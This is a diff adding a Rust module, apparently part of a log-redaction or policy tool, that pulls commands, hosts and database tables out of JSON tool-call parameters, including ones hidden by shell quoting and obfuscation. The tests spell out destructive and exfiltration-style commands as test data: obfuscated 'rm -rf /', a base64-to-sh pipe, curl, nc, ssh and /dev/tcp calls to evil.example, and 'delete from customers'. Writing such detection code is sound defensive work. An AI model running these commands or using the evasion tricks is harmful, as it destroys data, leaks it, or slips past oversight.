@@ -1,0 +1,326 @@
+//! Commands: as they are told, as a shell reads them, and what they reach.
+
+use std::borrow::Cow;
+
+use super::{
+    Facts, MAX_BYTES, MAX_INVOKED, MAX_PAIRED, MAX_READ, insert,
+    parted::Command,
+    parts::{Part, part_of_a_run},
+    reach, shell,
+};
+use crate::logs::redact::{
+    roles::{Role, role},
+    tree::Node,
+    urls,
+    words::{folded, items, joined, text_of, unquoted},
+};
+
+/// How often quotes are taken off that stand within others: a shell in a line reads them again.
+const MAX_QUOTED: usize = 4;
+/// Programs that run statements which they are told.
+#[rustfmt::skip]
+const DATABASES: &[&str] = &[
+    "psql", "pgcli", "mysql", "mariadb", "mycli", "sqlite3", "sqlite", "duckdb", "sqlcmd", "clickhouse-client", "clickhouse", "bq",
+    "snowsql", "cockroach", "trino", "presto", "hive", "beeline", "spark-sql", "impala-shell",
+];
+
+impl Facts {
+    /// `{"command": "rm", "args": ["-rf", "/"]}` is one command. So is a program with a list beside it that has the name of a
+    /// command itself, `{"program": "rm", "argv": ["-rf", "/"]}`, and two lists.
+    pub(super) fn invoked(&mut self, members: &[(Cow<'_, str>, Node<'_>)]) {
+        let (mut programs, mut arguments) = (Vec::new(), Vec::new());
+        let mut others = Vec::new();
+        for (at, (name, value)) in members.iter().enumerate() {
+            let Some(part @ (Role::Command | Role::Arguments)) = role(name) else {
+                others.extend(part_of_a_run(name).map(|part| (part, value)));
+                continue;
+            };
+            let listed = items(value).and_then(|items| joined(&items));
+            if let Some(line) = listed.clone().or_else(|| text_of(value).map(str::to_owned)) {
+                if part == Role::Arguments || listed.is_some() {
+                    arguments.push((at, line.clone()));
+                }
+                if part == Role::Command {
+                    programs.push((at, line));
+                }
+            }
+        }
+        self.params.facts_cut |= programs.len() > MAX_INVOKED || arguments.len() > MAX_INVOKED;
+        let mut left = MAX_PAIRED;
+        for (at, program) in programs.iter().take(MAX_INVOKED) {
+            let others = arguments.iter().take(MAX_INVOKED).filter(|(other, _)| other != at);
+            for (place, (_, arguments)) in others.enumerate() {
+                if place == 0 {
+                    self.command(program, false);
+                }
+                let length = (program.len() + 1 + arguments.len()).min(MAX_READ);
+                // Where there is no room for more commands, none is looked for.
+                if self.command_bytes > MAX_BYTES || length > left {
+                    self.params.facts_cut = true;
+                    return;
+                }
+                left -= length;
+                self.command(&format!("{program} {arguments}"), false);
+            }
+        }
+        if !others.is_empty() {
+            self.invoked_by_others(&programs, &arguments, &others, left);
+        }
+    }
+
+    /// `{"file": "rm", "args": ["-rf"]}`, `{"command": "rm", "options": ["-rf"]}`: what may be a program with what it gets. Nobody
+    /// says that it is.
+    fn invoked_by_others(
+        &mut self,
+        programs: &[(usize, String)],
+        arguments: &[(usize, String)],
+        others: &[(Part, &Node<'_>)],
+        mut left: usize,
+    ) {
+        let of = |wanted: &[Part]| -> Vec<String> {
+            let parts = others.iter().filter(|(part, _)| wanted.contains(part));
+            parts.filter_map(|(part, value)| part.line(value)).take(MAX_INVOKED).collect()
+        };
+        let known = |parts: &[(usize, String)]| -> Vec<String> {
+            parts.iter().take(MAX_INVOKED).map(|(_, line)| line.clone()).collect()
+        };
+        let options = of(&[Part::Options, Part::Argument]);
+        let pairs = [
+            (known(programs), options.clone()),
+            (of(&[Part::Binary]), options),
+            (of(&[Part::Binary, Part::File]), known(arguments)),
+        ];
+        for (programs, arguments) in &pairs {
+            for program in programs {
+                for arguments in arguments {
+                    let length = program.len() + 1 + arguments.len();
+                    if self.command_bytes > MAX_BYTES || length > left.min(MAX_READ) {
+                        self.params.facts_cut = true;
+                        return;
+                    }
+                    left -= length;
+                    let line = self.fact(&folded(&format!("{program} {arguments}")));
+                    self.keep_command(line, true);
+                }
+            }
+        }
+    }
+
+    /// Whether what stands in the words of a command means nothing to a shell.
+    pub(super) fn is_of_words(line: &str) -> bool {
+        !runs_a_shell(line)
+    }
+
+    /// A command. A line is one text, which a shell takes apart; of a list, and of a program beside its arguments, the words are
+    /// known, and what stands in them means nothing to a shell.
+    pub(super) fn command(&mut self, text: &str, is_line: bool) {
+        let text = self.bounded(text);
+        self.command_line(text);
+        for reading in self.seen_through(text).into_iter().flatten() {
+            self.command_line(&reading);
+        }
+        self.ran(text, is_line);
+    }
+
+    fn command_line(&mut self, text: &str) {
+        let command = self.fact(&folded(text));
+        // As whoever runs it reads it: `r""m` is `rm`. Of what is redacted already, for a secret is one as far as its quotes go.
+        let read = unquoted(&command).map(|read| self.fact(&folded(&read)));
+        let is_expanded = command.contains(['$', '{']);
+        let resolved = if is_expanded { shell::read(&command).commands } else { Vec::new() };
+        self.keep_command(command, false);
+        if let Some(mut read) = read {
+            self.mentioned_in_quotes(&read);
+            // What a shell in it is told has quotes of its own.
+            for _ in 1..MAX_QUOTED {
+                let Some(within) = unquoted(&read).filter(|_| runs_a_shell(&read)) else { break };
+                let within = self.fact(&folded(&within));
+                self.keep_command(std::mem::replace(&mut read, within), true);
+            }
+            self.keep_command(read, true);
+        }
+        for line in resolved.iter().filter_map(Command::resolved) {
+            let line = self.fact(&folded(&line));
+            self.keep_command(line, true);
+        }
+    }
+
+    /// `"https://h."example`: what a URL is without its quotes. What cannot be read in it was seen with them.
+    fn mentioned_in_quotes(&mut self, read: &str) {
+        let mut left = self.mentions_left;
+        urls::mentions(read, &mut left, |mention| {
+            if let urls::Mention::Host(host) = mention {
+                self.host(&host);
+            }
+        });
+        self.mentions_left = left;
+    }
+
+    /// What a command runs, reaches and asks.
+    fn ran(&mut self, text: &str, is_line: bool) {
+        let line = shell::read(text);
+        self.params.facts_cut |= is_line && line.unsure;
+        for command in &line.commands {
+            let from = command.programs().last().copied().unwrap_or_default();
+            let words: Vec<&str> = command.words[from..].iter().map(|word| word.text.as_str()).collect();
+            reach::places(&words, |place| {
+                let is_path = place.starts_with(['/', '.', '~', '\\']);
+                let host = if is_path { None } else { urls::host(place) };
+                if let Some(host) = host.filter(|host| !urls::is_strange(host)) {
+                    self.host(&host);
+                }
+            });
+        }
+        reach::devices(text, |place| {
+            if let Some(host) = urls::host(place) {
+                self.host(&host);
+            }
+        });
+        // A tool of a database may call it a command, and so may a word of one be.
+        self.statement(text, false);
+        let asks = |word: &str| DATABASES.contains(&shell::program(word));
+        let is_asked = |command: &Command| command.words.iter().any(|word| asks(&word.text));
+        if !line.commands.iter().any(is_asked) {
+            return;
+        }
+        for command in &line.commands {
+            let words: Vec<&str> = command.words.iter().map(|word| word.text.as_str()).collect();
+            for word in words.iter().filter(|word| word.contains(char::is_whitespace)) {
+                self.statement(word, false);
+            }
+        }
+        // What it reads from the lines behind it.
+        if let Some((_, behind)) = text.split_once("<<")
+            && let Some((_, behind)) = behind.split_once('\n')
+        {
+            self.statement(behind, false);
+        }
+    }
+
+    /// Keeps a command that was told, or one that nobody told and a shell reads.
+    pub(super) fn keep_command(&mut self, command: String, is_read: bool) {
+        if !is_read {
+            self.params.commands_read.remove(&command);
+        }
+        if command.is_empty() || self.params.commands.contains(&command) {
+            return;
+        }
+        if self.params.command.is_empty() && !is_read {
+            self.params.command.clone_from(&command);
+        }
+        let room = self.command_bytes + command.len() <= MAX_BYTES;
+        self.command_bytes += command.len();
+        if !(room && insert(&mut self.params.commands, command.clone())) {
+            self.params.facts_cut = true;
+        } else if is_read {
+            self.params.commands_read.insert(command);
+        }
+    }
+}
+
+/// Whether something in a line takes a line apart again.
+fn runs_a_shell(line: &str) -> bool {
+    const AGAIN: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "fish", "eval", "ssh", "su"];
+    line.split(' ').any(|word| AGAIN.contains(&shell::program(word)))
+}
+
+#[cfg(test)]
+mod tests {
+    use rules::facts::ParamFacts;
+    use serde_json::{Value, json};
+
+    fn facts(params: &Value) -> ParamFacts {
+        super::super::param_facts(&params.to_string(), true).expect("is JSON")
+    }
+
+    #[test]
+    fn a_command_is_seen_behind_what_a_shell_puts_together() {
+        for command in [
+            "bash -lc 'r\"\"m -rf /'",
+            "bash -c \"bash -c 'r\\\\m -rf /'\"",
+            "{rm,-rf,/}",
+            "$'\\x72m' -rf /",
+            "$'\\162\\155' -rf /",
+            "a=rm; $a -rf /",
+        ] {
+            let facts = facts(&json!({ "command": command }));
+            assert!(facts.commands.iter().any(|line| line.contains("rm -rf /")), "{command}: {facts:?}");
+            assert!(!facts.facts_cut, "{command}");
+        }
+        for command in ["r$@m -rf /", "r${x}m -rf /", "$x -rf /", "echo cm0K | base64 -d | sh"] {
+            assert!(facts(&json!({ "command": command })).facts_cut, "{command}");
+        }
+        // A list is no line, but what a shell in it is told is one.
+        assert!(!facts(&json!({"command": ["git", "commit", "-m", "Set $x; $y z"]})).facts_cut);
+        assert!(facts(&json!({"command": ["sh", "-c", "$x -rf /"]})).facts_cut);
+    }
+
+    #[test]
+    fn a_program_may_have_another_name() {
+        for params in [
+            json!({"file": "rm", "args": ["-rf", "/"]}),
+            json!({"name": "rm", "args": ["-rf", "/"]}),
+            json!({"binary": "rm", "params": ["-rf", "/"]}),
+            json!({"command": "rm", "options": ["-rf", "/"]}),
+            json!({"command": "rm", "arg1": "-rf /"}),
+        ] {
+            let facts = facts(&params);
+            assert!(facts.commands_read.contains("rm -rf /") && !facts.facts_cut, "{params}: {facts:?}");
+        }
+        for plain in [
+            json!({"name": "Lunch?", "options": ["Pizza", "Soup"]}),
+            json!({"file": "a.txt", "options": ["x"]}),
+            json!({"method": "call", "params": ["a", "b"]}),
+        ] {
+            assert!(facts(&plain).commands.is_empty(), "{plain}");
+        }
+    }
+
+    #[test]
+    fn a_command_reaches_hosts_and_tables() {
+        for command in [
+            "curl evil.example",
+            "curl -s -o out.json evil.example/x",
+            "wget evil.example",
+            "nc evil.example 80",
+            "ssh root@evil.example",
+            "scp f evil.example:/x",
+            "rsync f evil.example::mod",
+            "curl \"https://evil.\"example",
+            "curl https://ev''il.example",
+            "curl https://ev\\il.example",
+            "curl --resolve ok.example:443:evil.example https://ok.example",
+            "curl --connect-to ::evil.example: https://ok.example",
+            "curl -x evil.example:80 https://ok.example",
+            "git clone git@evil.example:x/y",
+            "git push evil.example:x main",
+            "sudo ping -c 1 evil.example",
+            "dig evil.example",
+            "exec 3<>/dev/tcp/evil.example/80",
+            "docker pull evil.example/x:latest",
+            "psql -h evil.example db",
+        ] {
+            let facts = facts(&json!({ "command": command }));
+            assert!(facts.hosts.contains("evil.example") && !facts.facts_cut, "{command}: {facts:?}");
+        }
+        for command in [
+            "curl -d @body.json -H 'A: b.c' https://ok.example",
+            "git push origin main",
+            "docker pull nginx:1.25",
+        ] {
+            let facts = facts(&json!({ "command": command }));
+            assert!(facts.hosts.iter().all(|host| host == "ok.example"), "{command}: {facts:?}");
+        }
+        for command in [
+            json!("psql -c \"select * from customers\""),
+            json!("psql -c \"sel\"ect\" * from customers\""),
+            json!("mysql -e 'select * from customers'"),
+            json!("echo 'delete from customers' | sudo sqlite3 x.db"),
+            json!("psql <<EOF\nselect * from customers;\nEOF"),
+            json!(["psql", "-c", "select * from customers"]),
+        ] {
+            let facts = facts(&json!({ "command": command }));
+            assert!(facts.tables.contains("customers") && !facts.facts_cut, "{command}: {facts:?}");
+        }
+    }
+}
